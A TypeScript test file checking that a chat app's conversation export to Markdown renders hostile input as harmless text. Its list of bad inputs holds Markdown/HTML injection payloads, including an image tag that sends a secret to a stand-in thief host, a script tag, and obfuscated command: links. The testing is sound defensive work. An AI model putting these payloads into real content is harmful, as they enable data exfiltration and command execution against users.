import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { conversationMarkdown } from '../../src/engine/chat/conversationMarkdown';
import { safeMarkdown } from '../../src/engine/chat/safeMarkdown';
import type { AnswerBlock } from '../../src/story/chatMessage';
import { answer, question } from '../webview/said';

/** As a reader of Markdown shows it that lets everything through. */
const READER = new MarkdownIt({ html: true });
READER.validateLink = () => true;

const exported = (asked: string, said: string, more: Parameters<typeof answer>[3] = {}, title = 'T'): string => {
  const blocks: AnswerBlock[] = safeMarkdown(said)
    .split('\n\n')
    .map((text) => ({ kind: 'markdown', text, citations: [], claims: [] }));
  const messages = [question('q', asked), answer('a', [], [], { method: 'scripted/teller', blocks, ...more })];
  return conversationMarkdown({ id: 'c', title: asked, messages }, title).markdown;
};

describe('An exported conversation', () => {
  const BAD = [
    '<img src="https://thief.invalid/?q=secret">',
    '<script>alert(1)</script>',
    '<a href="command:x">x</a>',
    '[ok](command:workbench.action.quit)',
    '[a [b] c](command:x)',
    '[x](&#99;ommand:y)',
    '![pic](https://thief.invalid/a.png)',
    '![pic][ref]',
    '[words][ref]',
    '> [ref]: command:x',
    '[ref]:\ncommand:x',
    '<command:x>',
    'a `code\n<img src=x>` b',
    '- ```\n<img src=x>',
    '``` a`b\n<img src=x>\n```',
    '- a\n  ```\n<img src=x>',
  ];
  const isHarmless = (markdown: string): void => {
    const html = READER.render(markdown);
    assert.doesNotMatch(html, /<(?:img|script|a (?!href="https:\/\/good\.invalid))/, markdown);
  };

  for (const bad of BAD) {
    it(`shows ${JSON.stringify(bad)} as text, whoever wrote it`, () => {
      isHarmless(exported('Q?', bad));
      isHarmless(exported('Q?', `${bad}\n\n${bad}`));
      isHarmless(exported(bad, 'Yes.'));
      isHarmless(exported('Q?', 'Yes.', {}, bad));
      isHarmless(exported('Q?', 'Yes.', { blocks: [{ kind: 'quote', text: bad, citations: [] }] }));
      const proposal = { id: 'p', sceneId: 's', hash: 'h', heading: bad, before: '', modelCallId: null };
      isHarmless(exported('Q?', 'Yes.', { proposals: [{ ...proposal, label: bad, after: bad, note: bad }] }));
      const failure = { code: 'x', message: bad, retryable: false, retryAfterMs: null };
      isHarmless(exported('Q?', 'Yes.', { failure }));
    });
  }

  it('keeps a model’s Markdown, its links to https and its code', () => {
    const said = 'It is **so**, as [they](https://good.invalid/a "t") say.\n\n- one\n- two\n\n```\nif (a < b) [c]\n```';
    const html = READER.render(exported('Q?', said));
    assert.ok(html.includes('<strong>so</strong>, as <a href="https://good.invalid/a">they</a> say.'), html);
    assert.ok(html.includes('<li>one</li>') && html.includes('if (a &lt; b) [c]'), html);
  });
  it('shows a question letter for letter', () => {
    const html = READER.render(exported('Hi <img src=x> ` *you*', 'Yes.'));
    assert.ok(html.includes('<h2>Hi &lt;img src=x&gt; ` *you*</h2>'), html);
  });
});
